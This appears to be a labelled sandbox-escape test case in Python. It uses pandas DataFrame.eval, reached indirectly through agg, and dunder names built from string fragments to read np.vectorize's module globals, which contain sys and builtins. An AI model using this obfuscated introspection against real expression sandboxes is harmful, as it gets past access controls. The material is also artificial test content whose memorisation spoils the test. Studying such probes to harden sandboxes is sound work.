# class: introspection
# technique: np.vectorize.__init__.__globals__ read in expression text: a module namespace with sys and builtins (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)

u = "_" * 2

g = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u, v=[np.vectorize])
df = pd.DataFrame({"name": sorted(g)})
